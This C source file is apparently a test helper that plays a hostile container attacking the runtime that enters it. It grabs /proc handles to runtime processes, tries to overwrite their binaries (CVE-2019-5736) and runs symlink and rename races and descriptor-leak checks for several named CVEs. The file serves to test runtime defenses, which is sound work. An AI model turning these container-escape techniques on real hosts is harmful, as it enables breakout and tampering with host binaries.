/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container does to the runtime that enters it. Static, so that it runs in any root. Prints a line for
 * each thing that it got hold of, and at its end "done".
 *
 *	steal SECONDS        from each process that appears: its binary, memory, root, working directory and descriptors,
 *	                     as long as it is not a program of the container's own or the stub that executes it;
 *	                     afterwards tries to overwrite every binary that it holds (CVE-2019-5736, CVE-2016-9962)
 *	swap A B SECONDS     exchanges two names all the time (CVE-2021-30465, CVE-2024-45310)
 *	plant NAME TARGET SECONDS  puts a link to TARGET in the place of NAME whenever somebody has made it
 *	descriptors          lists its own descriptors but 0, 1 and 2 (CVE-2024-21626)
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { HELD_MAX = 512, DESCRIPTORS_MAX = 64 };

static struct {
	int fd;
	char name[256];
} held[HELD_MAX];
static int held_count;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static ssize_t link_of(const char *pid, const char *what, char *ret, size_t size)
{
	char path[PATH_MAX];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	n = readlink(path, ret, size - 1);
	ret[n < 0 ? 0 : n] = '\0';
	return n;
}

/* The container's own programs, and the sealed stub of some hundred bytes. */
static bool is_harmless(const char *exe)
{
	struct stat st;

	return strstr(exe, "memfd:ctrace-init") || (exe[0] == '/' && !strstr(exe, "(deleted)") && stat(exe, &st) == 0);
}

static int open_in(const char *pid, const char *what, int flags)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	return open(path, flags | O_CLOEXEC);
}

static void hold(const char *pid, const char *exe)
{
	int fd = open_in(pid, "exe", O_PATH);

	if (fd < 0 || held_count == HELD_MAX)
		return;
	held[held_count].fd = fd;
	snprintf(held[held_count++].name, sizeof(held[0].name), "%.255s", exe);
	printf("binary %s of process %s\n", exe, pid);
}

static void try_directory(const char *pid, const char *what)
{
	int fd = open_in(pid, what, O_RDONLY | O_DIRECTORY);
	struct stat own, theirs;

	if (fd < 0)
		return;
	if (stat("/", &own) == 0 && fstat(fd, &theirs) == 0 && own.st_dev != theirs.st_dev)
		printf("%s of process %s\n", what, pid);
	close(fd);
}

static void steal_from(const char *pid)
{
	char exe[PATH_MAX], again[PATH_MAX], name[32], target[PATH_MAX];
	int fd;

	if (link_of(pid, "exe", exe, sizeof(exe)) <= 0 || is_harmless(exe))
		return;
	hold(pid, exe);
	fd = open_in(pid, "mem", O_RDWR);
	if (fd >= 0) {
		/* it may have become another program meanwhile */
		if (link_of(pid, "exe", again, sizeof(again)) > 0 && !strcmp(exe, again))
			printf("memory of process %s (%s)\n", pid, exe);
		close(fd);
	}
	try_directory(pid, "root");
	try_directory(pid, "cwd");
	for (int i = 3; i < DESCRIPTORS_MAX; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		if (link_of(pid, name, target, sizeof(target)) > 0)
			printf("descriptor %d of process %s: %s\n", i, pid, target);
	}
}

static void overwrite_held(void)
{
	for (int i = 0; i < held_count; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			printf("OVERWRITTEN %s: %s\n", held[i].name, write(fd, "#!", 2) == 2 ? "yes" : "open");
	}
}

static void steal(double seconds)
{
	double end = now() + seconds;
	pid_t self = getpid();

	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			if (isdigit((unsigned char)e->d_name[0]) && atoi(e->d_name) != self)
				steal_from(e->d_name);
		}
		if (d)
			closedir(d);
	}
	sleep(1);
	overwrite_held();
}

static void swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;

	while (now() < end) {
		for (int i = 0; i < 1000; i++) {
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
				fprintf(stderr, "attacker: cannot exchange %s and %s: %s\n", a, b,
					strerror(errno));
				exit(1);
			}
		}
	}
}

static void plant(const char *name, const char *target, double seconds)
{
	double end = now() + seconds;
	char link[PATH_MAX];

	snprintf(link, sizeof(link), "%s.link", name);
	while (now() < end) {
		for (int i = 0; i < 1000; i++) {
			if (renameat2(AT_FDCWD, link, AT_FDCWD, name, RENAME_EXCHANGE) < 0 && errno != ENOENT)
				continue;
			unlink(link); /* what was there, now */
			if (symlink(target, link) < 0 && errno != EEXIST)
				exit(1);
			while (access(name, F_OK) < 0 && now() < end)
				;
		}
	}
}

static void descriptors(void)
{
	char pid[16], name[32], target[PATH_MAX];

	snprintf(pid, sizeof(pid), "%d", getpid());
	for (int i = 3; i < DESCRIPTORS_MAX; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		if (link_of(pid, name, target, sizeof(target)) > 0)
			printf("descriptor %d: %s\n", i, target);
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "steal"))
		steal(atof(argv[2]));
	else if (argc == 5 && !strcmp(argv[1], "swap"))
		swap(argv[2], argv[3], atof(argv[4]));
	else if (argc == 5 && !strcmp(argv[1], "plant"))
		plant(argv[2], argv[3], atof(argv[4]));
	else if (argc == 2 && !strcmp(argv[1], "descriptors"))
		descriptors();
	else
		return 2;
	puts("done");
	return 0;
}
